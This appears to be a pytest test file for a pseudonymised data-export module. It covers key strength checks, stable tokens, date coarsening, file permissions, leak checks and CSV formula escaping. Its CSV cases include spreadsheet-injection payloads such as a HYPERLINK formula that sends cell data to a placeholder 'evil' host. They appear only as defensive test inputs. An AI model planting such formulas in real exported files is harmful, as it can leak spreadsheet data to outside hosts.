"""Pseudonymised exports: keyed tokens, weak keys refused, CSV a spreadsheet cannot execute."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import stat

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from ingest.errors import SettingsError, WorkspaceError
from kinlink import pseudonymise as module
from kinlink.pseudonymise import (
    EXPORT_SPECS,
    KEY_ENV,
    check_key,
    export_tables,
    key_id,
    load_key,
    pseudonymise,
    safe_csv_cell,
    to_safe_csv,
    token,
)
from kinlink.workspace import Workspace
from tests.genogram.family_fixture import family_tables

KEY = b"5f0c2b7e9a41d3886c1e0f4b2a97d6e3c8b1f05a7e2d4c9b6a3f8e1d0c7b2a95"
OTHER_KEY = b"Vq3#xL9!pT2@mR8$wN5^kJ7&hB4*gF6(dS1)zC0+yE-uA_oI=Kl;Ne:Wr<Ty>Up"


# --------------------------------------------------------------------------- keys

KEY_CASES = [
    {"description": "64 random hex digits", "key": KEY, "error": None},
    {"description": "random text", "key": OTHER_KEY, "error": None},
    {"description": "32 random bytes", "key": bytes.fromhex(KEY.decode()), "error": None},
    {"description": "too short", "key": b"s3cret-Key!", "error": "too short"},
    {"description": "32 hex digits (128 bits)", "key": KEY[:32], "error": "too short for a hex key"},
    {"description": "one character repeated", "key": b"k" * 64, "error": "not random enough"},
    {"description": "a word repeated", "key": b"password" * 5, "error": "not random enough"},
    {"description": "a pattern repeated", "key": b"0123456789abcdef" * 4, "error": "repeats itself"},
    {"description": "a run of characters", "key": b"abcdefghijklmnopqrstuvwxyz012345", "error": "run"},
]


@pytest.mark.parametrize("case", KEY_CASES, ids=[c["description"] for c in KEY_CASES])
def test_check_key(case):
    if case["error"] is None:
        assert check_key(case["key"]) == case["key"]
    else:
        with pytest.raises(SettingsError, match=case["error"]) as info:
            check_key(case["key"])
        assert case["key"].decode("latin-1") not in str(info.value)
        assert "secrets.token_hex(32)" in str(info.value)


def test_the_key_comes_from_the_environment_or_a_private_key_file(tmp_path):
    assert load_key(environ={KEY_ENV: f"  {KEY.decode()}\n"}) == KEY
    with pytest.raises(SettingsError, match=f"set {KEY_ENV} or give --key-file"):
        load_key(environ={})
    with pytest.raises(SettingsError, match=rf"key in \${KEY_ENV} is too short"):
        load_key(environ={KEY_ENV: "short"})
    path = tmp_path / "pseudonym.key"
    path.write_bytes(KEY + b"\n")
    path.chmod(0o644)
    with pytest.raises(SettingsError, match=r"can be read by others.*chmod 600"):
        load_key(path, environ={KEY_ENV: OTHER_KEY.decode()})
    path.chmod(0o600)
    assert load_key(path, environ={KEY_ENV: OTHER_KEY.decode()}) == KEY  # the file wins
    binary = tmp_path / "binary.key"
    binary.write_bytes(bytes.fromhex(KEY.decode()))
    binary.chmod(0o600)
    assert load_key(binary, environ={}) == bytes.fromhex(KEY.decode())
    with pytest.raises(SettingsError, match="not a regular file"):
        load_key(tmp_path, environ={})
    with pytest.raises(SettingsError, match="cannot read the key file"):
        load_key(tmp_path / "missing.key", environ={})


def test_the_key_is_never_read_from_configuration():
    import inspect

    source = inspect.getsource(module.load_key)
    assert "yaml" not in source and "PipelineConfig" not in source


# --------------------------------------------------------------------------- tokens


def test_tokens_are_stable_per_key_and_unrelated_across_keys():
    assert token("P-1", KEY) == token("P-1", KEY)
    assert token("P-1", KEY) != token("P-2", KEY)
    assert token("P-1", KEY) != token("P-1", OTHER_KEY)
    assert len(token("P-1", KEY)) == 32 and int(token("P-1", KEY), 16) >= 0
    assert key_id(KEY) == key_id(KEY) != key_id(OTHER_KEY)
    assert KEY.decode() not in key_id(KEY)


@given(a=st.text(max_size=40), b=st.text(max_size=40))
def test_equal_values_and_only_equal_values_share_a_token(a, b):
    assert (token(a, KEY) == token(b, KEY)) == (a == b)


def test_pseudonymise_tokenises_drops_and_keeps():
    frame = pd.DataFrame(
        {
            "person_id": ["P1", "P2", "P1", None],
            "incident_ids": [["i1", "i2"], [], None, ["i1"]],
            "given_name": ["Amy", "Bo", "Amy", "Cy"],
            "sex": ["F", "M", "F", None],
        }
    )
    out = pseudonymise(frame, key=KEY, columns_to_token=["person_id", "incident_ids"], drop=["given_name"])
    assert list(out.columns) == ["person_id", "incident_ids", "sex"]
    assert out["person_id"].tolist() == [token("P1", KEY), token("P2", KEY), token("P1", KEY), None]
    assert out["incident_ids"].tolist() == [
        [token("i1", KEY), token("i2", KEY)],
        [],
        None,
        [token("i1", KEY)],
    ]
    assert out["sex"].tolist() == ["F", "M", "F", None]
    assert frame["person_id"].tolist() == ["P1", "P2", "P1", None], "the input is not changed"
    again = pseudonymise(pa.Table.from_pandas(frame), key=KEY, columns_to_token=["person_id"], drop=[])
    assert again["person_id"].tolist() == out["person_id"].tolist()
    other = pseudonymise(frame, key=OTHER_KEY, columns_to_token=["person_id"])
    assert not set(other["person_id"].dropna()) & set(out["person_id"].dropna())


DATE_CASES = [
    {"rule": "keep", "dob": dt.date(2014, 4, 12), "stamp": pd.Timestamp("2023-02-11 10:30")},
    {"rule": "month", "dob": "2014-04", "stamp": "2023-02"},
    {"rule": "year", "dob": "2014", "stamp": "2023"},
]


@pytest.mark.parametrize("case", DATE_CASES, ids=[c["rule"] for c in DATE_CASES])
def test_dates_are_kept_or_coarsened(case):
    frame = pd.DataFrame(
        {
            "dob": [dt.date(2014, 4, 12), None],
            "stamp": pd.to_datetime(["2023-02-11 10:30", None]),
            "text": ["2014-04-12", None],
        }
    )
    out = pseudonymise(frame, key=KEY, columns_to_token=[], dates=case["rule"])
    assert out["dob"].tolist()[0] == case["dob"] and pd.isna(out["dob"].tolist()[1])
    assert out["stamp"].tolist()[0] == case["stamp"]
    assert out["text"].tolist()[0] == "2014-04-12", "text is not a date column"


ARGUMENT_ERRORS = [
    {"description": "a column to token the table lacks", "kwargs": {"columns_to_token": ["nope"]}},
    {"description": "a column to drop the table lacks", "kwargs": {"columns_to_token": [], "drop": ["nope"]}},
    {"description": "dropped and tokenised", "kwargs": {"columns_to_token": ["a"], "drop": ["a"]}},
    {"description": "an unknown date rule", "kwargs": {"columns_to_token": [], "dates": "day"}},
    {"description": "a weak key", "kwargs": {"columns_to_token": [], "key": b"x" * 40}},
]


@pytest.mark.parametrize("case", ARGUMENT_ERRORS, ids=[c["description"] for c in ARGUMENT_ERRORS])
def test_bad_arguments_are_settings_errors(case):
    with pytest.raises(SettingsError):
        pseudonymise(pd.DataFrame({"a": [1]}), **({"key": KEY} | case["kwargs"]))


# --------------------------------------------------------------------------- CSV

CSV_CELLS = [
    {"value": "=1+1", "cell": "'=1+1"},
    {"value": '=HYPERLINK("http://evil/?"&A1)', "cell": '\'=HYPERLINK("http://evil/?"&A1)'},
    {"value": "+44 1234", "cell": "'+44 1234"},
    {"value": "-2+3", "cell": "'-2+3"},
    {"value": "@SUM(A1:A9)", "cell": "'@SUM(A1:A9)"},
    {"value": "\t=1", "cell": "'\t=1"},
    {"value": "\r=1", "cell": "'\r=1"},
    {"value": "a=b", "cell": "a=b"},
    {"value": "'quoted", "cell": "'quoted"},
    {"value": "", "cell": ""},
    {"value": None, "cell": ""},
    {"value": float("nan"), "cell": ""},
    {"value": -3, "cell": "-3"},
    {"value": -1.5, "cell": "-1.5"},
    {"value": True, "cell": "true"},
    {"value": dt.date(2014, 4, 12), "cell": "2014-04-12"},
    {"value": ["csc", "=cmd"], "cell": '["csc", "=cmd"]'},
    {"value": ["-1"], "cell": '["-1"]'},
]


@pytest.mark.parametrize("case", CSV_CELLS, ids=[repr(c["value"]) for c in CSV_CELLS])
def test_safe_csv_cell(case):
    assert safe_csv_cell(case["value"]) == case["cell"]


FORMULA = ("=", "+", "-", "@", "\t", "\r")


@given(
    cells=st.lists(
        st.one_of(st.text(max_size=20), st.sampled_from(["=1+1", "-1", "+1", "@a", "\tx", "\rx"])),
        min_size=1,
        max_size=6,
    )
)
def test_no_csv_cell_starts_like_a_formula_and_the_text_survives(cells):
    frame = pd.DataFrame({f"c{i}": [v] for i, v in enumerate(cells)})
    rows = list(csv.reader(io.StringIO(to_safe_csv(frame), newline="")))
    assert rows[0] == list(frame.columns)
    (row,) = rows[1:]
    for original, cell in zip(cells, row, strict=True):
        assert not cell.startswith(FORMULA)
        assert (cell[1:] if original.startswith(FORMULA) else cell) == original


def test_a_hostile_column_name_is_neutralised_too():
    assert to_safe_csv(pd.DataFrame({"=cmd": [1]})).splitlines()[0] == "'=cmd"


# --------------------------------------------------------------------------- exports


@pytest.fixture
def workspace(tmp_path) -> Workspace:
    ws = Workspace(tmp_path / "ws")
    tables = family_tables()
    tables["interventions"].loc[0, "category"] = '=HYPERLINK("http://evil")'
    for name, frame in tables.items():
        ws.write_table(name, frame)
    return ws


def personal_values() -> set[str]:
    tables = family_tables()
    persons = tables["persons"]
    values = set()
    for column in ("given_name", "family_name", "nhs_number", "upn", "postcode"):
        values |= {str(v) for v in persons[column].dropna()}
    values |= {v.isoformat() for v in persons["dob"].dropna()}
    values |= {str(v) for v in tables["households"]["address"].dropna()}
    values |= {str(v) for v in tables["interventions"]["lead_practitioner"].dropna()}
    values |= {str(v) for v in persons["person_id"]}
    return values


def test_an_export_holds_no_names_identifiers_addresses_or_raw_ids(workspace, tmp_path):
    out = tmp_path / "export"
    summary = export_tables(workspace, out, key=KEY, dates="month")
    expected = {f"{s.table}.{ext}" for s in EXPORT_SPECS for ext in ("parquet", "csv")} | {"export.json"}
    assert {p.name for p in out.iterdir()} == expected
    assert stat.S_IMODE(out.stat().st_mode) == 0o700
    for path in out.iterdir():
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path.name
    texts = [p.read_text() for p in out.glob("*.csv")] + [(out / "export.json").read_text()]
    texts += [pq.read_table(p).to_pandas().to_json() for p in out.glob("*.parquet")]
    body = "\n".join(texts)
    leaked = sorted(v for v in personal_values() if v in body)
    assert not leaked
    assert KEY.decode() not in body
    assert summary.rows["persons"] == len(family_tables()["persons"])


def test_an_export_joins_within_itself_and_across_exports_with_one_key(workspace, tmp_path):
    export_tables(workspace, tmp_path / "a", key=KEY)
    export_tables(workspace, tmp_path / "b", key=KEY)
    export_tables(workspace, tmp_path / "c", key=OTHER_KEY)
    a, b, c = (pq.read_table(tmp_path / x / "persons.parquet").to_pandas() for x in "abc")
    families = pq.read_table(tmp_path / "a" / "families.parquet").to_pandas()
    assert set(families["person_id"]) <= set(a["person_id"])
    assert a["person_id"].tolist() == b["person_id"].tolist()
    assert not set(a["person_id"]) & set(c["person_id"])
    assert a["dob"].str.fullmatch(r"\d{4}-\d{2}").all()
    doc = json.loads((tmp_path / "a" / "export.json").read_text())
    assert doc["key_id"] == key_id(KEY) and doc["dates"] == "month"
    assert "given_name" in doc["tables"]["persons"]["dropped"]


def test_export_csv_neutralises_formulas(workspace, tmp_path):
    export_tables(workspace, tmp_path / "x", key=KEY)
    text = (tmp_path / "x" / "interventions.csv").read_text()
    assert "'=HYPERLINK" in text
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert not any(cell.startswith(FORMULA) for row in rows for cell in row)


def test_an_export_inside_the_workspace_or_of_a_missing_table_is_refused(workspace, tmp_path):
    with pytest.raises(WorkspaceError, match="inside the workspace"):
        export_tables(workspace, workspace.path / "export", key=KEY)
    os.remove(workspace.table_path("interventions"))
    with pytest.raises(WorkspaceError, match="no interventions table"):
        export_tables(workspace, tmp_path / "y", key=KEY)
    assert not (tmp_path / "y").exists()


def test_doctests():
    import doctest

    assert doctest.testmod(module).failed == 0


def test_an_export_goes_through_the_access_policy_restricted_records_stay_behind(workspace, tmp_path):
    out = tmp_path / "export"
    export_tables(workspace, out, key=KEY, dates="month")
    exported = pq.read_table(out / "interventions.parquet").to_pandas()
    source = family_tables()["interventions"]
    restricted = {"marac", "mappa"}
    assert restricted & set(source["event_type"])  # the family has some
    assert not restricted & set(exported["event_type"])
    assert set(exported["event_type"]) == set(source["event_type"]) - restricted
